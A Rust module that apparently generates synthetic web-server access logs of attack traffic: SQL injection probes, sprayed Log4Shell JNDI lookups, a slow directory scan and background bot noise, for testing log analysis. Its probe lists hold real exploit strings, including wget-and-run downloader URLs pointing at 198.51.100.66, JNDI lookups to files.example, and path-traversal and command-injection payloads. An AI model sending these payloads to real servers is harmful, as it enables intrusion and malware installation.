//! Attacks that are no bursts: slow ones, spread ones, sprayed ones, lists of words, and more of the background noise.

use super::address;
use super::attackers::{SQL_PROBES, blind, union_columns};
use super::clock::{MINUTE, Millis, SECOND};
use super::story::{Answer, Story, Who};
use super::writers::encode;

/// The browser that a residential proxy's customer pretends to have.
pub const PROXY_AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.5060.53 Safari/537.36";

/// The nth payload of somebody who takes the time to find out whether a parameter can be injected.
pub fn sql_payload(n: u64) -> String {
    match n % 3 {
        0 => SQL_PROBES[(n / 3) as usize % SQL_PROBES.len()].to_owned(),
        1 => union_columns(1 + n / 3 % 12),
        _ => blind(1 + n / 3, 64 + n % 32),
    }
}

/// One SQL payload at the item page, which does not mind: every answer is the page's own.
pub fn ask_item(story: &mut Story, who: Who, at: Millis, n: u64) {
    let target = format!("/item.php?no={}", encode(&sql_payload(n)));
    let (bytes, took) = (7_204, story.rng.between(40, 90));
    story.get(at, who, &target, Answer(200, bytes, took));
}

/// Payloads from one of `addresses` after the other, one every `gap` or so.
pub fn in_turn(
    story: &mut Story,
    addresses: &[String],
    agent: &str,
    start: Millis,
    gap: Millis,
    count: u64,
) {
    let mut at = start;
    for n in 0..count {
        let client = addresses[story.rng.below(addresses.len() as u64) as usize].clone();
        let who = Who {
            client: &client,
            agent,
        };
        ask_item(story, who, at, n);
        at += story.rng.between(gap / 2, gap * 3 / 2);
    }
}

/// Look-ups that a logging library would follow, one request from each address, wherever a server may log them.
pub fn spray_lookups(story: &mut Story, addresses: &[String], start: Millis, gap: Millis) {
    let mut at = start;
    for (n, client) in addresses.iter().enumerate() {
        let lookup = match n % 3 {
            0 => "${jndi:ldap://files.example:1389/a}".to_owned(),
            1 => format!("${{jndi:${{lower:l}}dap://files.example/{n}}}"),
            _ => "${${::-j}ndi:rmi://files.example/b}".to_owned(),
        };
        let (target, agent) = match n % 2 {
            0 => ("/".to_owned(), lookup),
            _ => (format!("/?x={}", encode(&lookup)), "Mozilla/5.0".to_owned()),
        };
        let who = Who {
            client,
            agent: &agent,
        };
        story.get(at, who, &target, Answer(200, 17_204, 20));
        at += story.rng.between(gap / 2, gap * 3 / 2);
    }
}

/// Words that no list of probes knows: what a directory scan of a shop tries besides.
const WORDS: [&str; 24] = [
    "ablage",
    "angebote",
    "archiv",
    "bilder",
    "daten",
    "entwurf",
    "extern",
    "filiale",
    "geheim",
    "intern",
    "kasse",
    "lager",
    "mitarbeiter",
    "neu",
    "partner",
    "preise",
    "projekt",
    "rechnung",
    "server",
    "sicher",
    "statistik",
    "verwaltung",
    "vorlage",
    "zugang",
];

/// A directory scan that takes its time: a word every `gap` or so, from a list that nobody knows.
pub fn slow_directory_scan(story: &mut Story, who: Who, start: Millis, gap: Millis) {
    let mut at = start;
    for suffix in ["", "/", ".zip", "-alt", "_old", ".bak"] {
        for word in WORDS {
            story.get(at, who, &format!("/{word}{suffix}"), Answer(404, 4_120, 9));
            at += story.rng.between(gap / 2, gap * 3 / 2);
        }
    }
}

/// Bots that try whatever they know, a handful of probes each, all day.
pub fn noise(story: &mut Story, from: Millis, to: Millis, per_hour: f64) {
    const PROBES: [(&str, &str); 12] = [
        (
            "GET",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.66:38291/Mozi.m+-O+/tmp/netgear;sh+netgear",
        ),
        ("POST", "/boaform/admin/formLogin"),
        (
            "GET",
            "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/jaws;sh+/tmp/jaws",
        ),
        (
            "GET",
            "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        ),
        (
            "GET",
            "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
        ),
        (
            "POST",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ),
        ("GET", "/.env"),
        ("GET", "/wp-login.php"),
        ("GET", "/.git/config"),
        ("GET", "/HNAP1"),
        (
            "GET",
            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)",
        ),
        ("GET", "/actuator/health"),
    ];
    const AGENTS: [&str; 4] = [
        "Mozilla/5.0 zgrab/0.x",
        "Hello, World",
        "python-requests/2.27.1",
        "-",
    ];
    for start in story.moments(from, to, per_hour / 60.0) {
        let client = address::shared(story.rng.below(address::SHARED_SPACE));
        let who = Who {
            client: &client,
            agent: AGENTS[story.rng.below(AGENTS.len() as u64) as usize],
        };
        let mut at = start;
        for _ in 0..story.rng.between(1, 9) {
            let (method, target) = *story.rng.pick(&PROBES);
            story.ask(at, who, method, target, "-", Answer(404, 4_120, 6));
            at += story.rng.between(SECOND / 2, MINUTE / 12);
        }
    }
    story.requests.retain(|request| request.logged_at() < to);
}
